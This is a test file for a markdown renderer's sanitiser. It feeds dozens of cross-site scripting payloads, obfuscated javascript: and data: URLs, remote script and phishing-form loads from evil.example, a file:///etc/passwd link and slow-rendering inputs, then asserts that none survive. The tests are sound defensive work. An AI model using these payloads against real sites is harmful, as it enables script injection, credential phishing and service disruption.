"""Nothing that a member writes becomes a script, a style, a form or a foreign address."""

import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from communities.kit.text import LONGEST, clean_source, render

from .safety import read, survivors, tags

JS = "javascript:alert(1)"
HTML = {
    "script": [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/xss src=//evil.example>",
        "<script\x00>alert(1)</script>",
        "</p><script>alert(1)</script><p>",
        "<noscript><p title='</noscript><script>alert(1)</script>'>",
    ],
    "event handler": [
        "<img src=x onerror=alert(1)>",
        "<img src='x'onerror='alert(1)'>",
        "<body onload=alert(1)>",
        "<a href='#' onclick=alert(1) onmouseover=alert(2)>x</a>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<p style='animation:x' onanimationstart=alert(1)>",
        "<video><source onerror=alert(1)>",
        "<marquee onstart=alert(1)>",
    ],
    "svg and math": [
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)//",
        "<svg><script>alert&#40;1)</script>",
        f"<svg><a xlink:href={JS}><text>x</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1)>",
        f"<math><maction actiontype=statusline xlink:href={JS}>x</maction></math>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    ],
    "style": [
        "<style>@import 'https://evil.example/x.css';</style>",
        "<p style='background:url(javascript:alert(1))'>x</p>",
        "<div style='position:fixed;inset:0'>covered</div>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<p class='usa-button' id='main-content'>x</p>",
    ],
    "foreign page": [
        "<iframe src=https://evil.example></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<object data=https://evil.example/x.swf>",
        "<embed src=https://evil.example/x.svg>",
        "<base href=https://evil.example/>",
        f"<meta http-equiv=refresh content='0;url={JS}'>",
        "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
        "<img src=https://evil.example/pixel.gif>",
        f"<button formaction={JS}>x</button>",
    ],
    "broken": [
        "<<script>alert(1)//<</script>",
        "<img src=x onerror=alert(1)//",
        "<a href=\"x\"\"onmouseover=\"alert(1)\">",
        "<!--<img src='--><img src=x onerror=alert(1)>'>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version='1.0'?><script>alert(1)</script>",
        "<!DOCTYPE html><script>alert(1)</script>",
        "<plaintext><script>alert(1)",
        "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
        "＜script＞alert(1)＜/script＞",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;img src=x onerror=alert(1)&#62;",
        "<a\x0chref='x'\x0conclick=alert(1)>",
    ],
}  # fmt: skip
URLS = [
    JS,
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3A;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61script:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript\\:alert(1)",
    "javascript%3Aalert(1)",
    "javascript://x.gov/%0aalert(1)",
    "vbscript:msgbox(1)",
    "livescript:x",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/png;base64,AAAA",
    "DATA:text/html,x",
    "file:///etc/passwd",
    "ftp://x.gov/a",
    "blob:https://x.gov/1",
    "filesystem:https://x.gov/1",
    "view-source:https://x.gov",
    "feed:javascript:alert(1)",
    "jar:javascript:alert(1)!/",
    "intent://x#Intent;scheme=javascript;end",
    "tel:911",
    "x\"onmouseover=\"alert(1)",
    "x'onmouseover='alert(1)",
    "https://x.gov\"><script>alert(1)</script>",
]  # fmt: skip
LINKS = [
    "[x]({})",
    "[x](<{}>)",
    "[x]( {} 'title')",
    "![a chart of reach]({})",
    "[![a chart of reach]({})]({})",
    "<{}>",
    "[x]\n\n[x]: {}",
    "[x]: <{}>\n\n[x]",
    "[x](https://x.gov '{}')",
    "[{}](https://x.gov)",
    "![{}](https://x.gov)",
    "see {} there",
]
PLACES = [
    "{}",
    "# {}",
    "> {}",
    "- {}",
    "1. > - {}",
    "**{}**",
    "`{}`",
    "``` {}\nx\n```",
    "```\n{}\n```",
    "    {}",
    "| {} |\n|---|\n| {} |",
    "[{}](https://x.gov)",
    "[x](https://x.gov \"{}\")",
    "![{}](https://x.gov/a.png)",
    "{}\n===",
    "**a {}\n\n{} b**",
]  # fmt: skip
PAYLOADS = [payload for family in HTML.values() for payload in family]


def test_the_families_of_payloads_are_many_and_the_check_sees_each_of_them():
    """The check itself must be able to fail: on most payloads as they are, it does."""
    assert len(PAYLOADS) >= 45 and len(URLS) >= 30
    assert sum(bool(survivors(payload)) for payload in PAYLOADS) >= 40
    assert sum(bool(survivors(f"<a href='{url}'>x</a>")) for url in URLS) >= 25


@pytest.mark.parametrize("place", PLACES, ids=ascii)
@pytest.mark.parametrize("family", HTML)
def test_html_is_shown_as_text_wherever_it_is_written(family, place):
    for payload in HTML[family]:
        source = place.replace("{}", payload)
        assert survivors(render(source).html) == [], source
        assert survivors(render(clean_source(source)).html) == [], source


def test_html_that_is_shown_as_text_loses_no_letter():
    payload = "<script>alert('R&D')</script>"
    assert "".join(read(render(payload).html).words).strip() == payload


@pytest.mark.parametrize("link", LINKS, ids=ascii)
def test_a_link_leads_to_the_web_or_to_mail_and_nowhere_else(link):
    for url in URLS:
        source = link.replace("{}", url)
        assert survivors(render(source).html) == [], source
        assert survivors(render(clean_source(source)).html) == [], source


@pytest.mark.parametrize("url", ["https://x.gov", "http://x.gov", "mailto:dana@epa.gov", "/people/", "#top"])
def test_a_good_link_survives(url):
    assert f'href="{url}"' in render(f"[x]({url})").html


@pytest.mark.parametrize("payload", [*PAYLOADS, *URLS], ids=lambda payload: ascii(payload[:40]))
def test_the_name_of_a_member_cannot_break_out_of_a_mention(payload):
    html = render("Ask @dana now", mentions=lambda slug: (payload, payload)).html
    assert survivors(html) == []


@pytest.mark.parametrize("name", ["R&D", "Dana <b>", '</a> <a href="https://evil.example">Dana', "&lt;b&gt;"])
def test_the_name_of_a_member_is_shown_as_it_is_written(name):
    html = render("Ask @dana", mentions=lambda slug: (name, "/people/dana/")).html
    assert [a["href"] for a in tags(html, "a")] == ["/people/dana/"]
    assert "".join(read(html).words).strip() == f"Ask @{name}"


FRAGMENTS = [
    *PAYLOADS, *URLS, *LINKS,
    *("[", "]", "(", ")", "![", "](", "<", ">", "</", "/>", "`", "```", "*", "**", "_", "~~", "|", "|-|"),
    *("\\", "&", "&#", ";", "\n", "\n\n", "    ", "> ", "- ", "1. ", "# ", "[x]: ", '"', "'", "=", ":", "//"),
    *("@dana", "\x00", "\t", "\u202e", "\u200b", "\u2028", "\ufeff", "onerror=", "href=", "style=", "a"),
    *("x.gov", "https://"),
]  # fmt: skip


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=5)), max_size=25))
def test_no_mixture_of_markdown_and_attacks_gets_through(fragments):
    source = "".join(fragments)
    html = render(source, mentions=lambda slug: ("Dana <b>", f"/people/{slug}/")).html
    assert survivors(html) == []


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_no_text_at_all_gets_through_or_breaks_the_renderer(source):
    assert survivors(render(source).html) == []


# --- time ---------------------------------------------------------------------------------------

HEAVY = {
    "[[[[": "[",
    "![![": "![",
    "]]]]": "]",
    "[a](": "[a](",
    "[](<": "[](<",
    "[a][": "[a][",
    "[[a]]": "[[a]]",
    "****": "*",
    "**a": "**a",
    "_a*": "_a*",
    "*_": "*_",
    "~~a": "~~a",
    ">>>>": ">",
    "> - ": "> - ",
    "a `": "a `",
    "````": "`",
    "fences": "```\n",
    "<<<<": "<",
    "<a ": "<a ",
    "<!--": "<!--",
    "&#x": "&#x",
    "\\\\": "\\",
    "://": "://",
    "http://": "http://",
    "http://a.": "http://a.",
    "mailto:": "mailto:",
    "a@a.": "a@a.",
    "@a ": "@a ",
    "# a": "# a\n",
    "a\\n": "a\n",
    "a\\n=": "a\n=\n",
    "* a": "* a\n\n",
    "references": "[a]: b\n",
    "small tables": "|a|\n|-|\n\n",
    "wide tables": "|a" * 180 + "\n" + "|-" * 180 + "\n" + "|\n" * 363 + "\n",
    "deep list": "".join("  " * depth + "- a\n" for depth in range(140)),
    "deep list of quotes": "".join("> " * depth + "- a\n" for depth in range(140)),
    "growing backticks": "".join("a " + "`" * length for length in range(200)),
    "nested links": "[" * 5000 + "a" + "](b)" * 3700,
}


@pytest.mark.parametrize("name", HEAVY)
def test_no_text_takes_longer_to_render_than_a_reader_would_wait(name):
    source = (HEAVY[name] * LONGEST)[:LONGEST]
    started = time.process_time()
    html = render(source).html
    assert time.process_time() - started < 2.5
    assert survivors(html) == []
    assert len(html) < 40 * LONGEST
